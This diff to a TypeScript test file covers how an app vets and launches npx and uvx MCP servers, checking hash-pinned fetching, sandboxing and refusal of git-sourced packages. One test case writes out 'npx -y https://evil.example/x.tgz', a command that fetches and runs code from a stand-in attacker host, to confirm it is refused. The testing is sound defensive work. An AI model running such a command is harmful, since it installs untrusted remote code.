@@ -8,7 +8,6 @@ import type { SettingsInput } from "../../../src/app/settings.ts";
 import type { JsonObject } from "../../../src/base/json.ts";
 import { removeTree } from "../../../src/features/bundles/write-tree.ts";
 import { openHarness } from "../../harness.ts";
-import { longTest } from "../../runs.ts";
 import { openMcpApi } from "./open-mcp-api.ts";
 import {
   npmServer,
@@ -67,17 +66,13 @@ test("F10: an npx server whose lock names a repository is refused in words", asy
   await expect.poll(() => server()?.error, SLOWLY).toMatch(/comes from git\+https/);
 }, 60_000);
 
-longTest(
-  "A69: a uvx server that was pinned is fetched by its hashes, and runs in its box",
-  async () => {
-    const index = await startPythonIndex();
-    const { server, invoke } = await openWith(uvxServer(index), { python: index.simple });
-    await expect.poll(() => server()?.state, SLOWLY).toBe("ready");
-    const outcome = await invoke("mcp:kept:hello", {});
-    expect(JSON.stringify(outcome.outputs)).toContain("hello from fixture-words 2.0.0");
-  },
-  60_000,
-);
+test("A69: a uvx server that was pinned is fetched by its hashes, and runs in its box", async () => {
+  const index = await startPythonIndex();
+  const { server, invoke } = await openWith(uvxServer(index), { python: index.simple });
+  await expect.poll(() => server()?.state, SLOWLY).toBe("ready");
+  const outcome = await invoke("mcp:kept:hello", {});
+  expect(JSON.stringify(outcome.outputs)).toContain("hello from fixture-words 2.0.0");
+}, 60_000);
 
 test.each([
   ["npx", ["-y", "https://evil.example/x.tgz"], "is no package of a registry"],
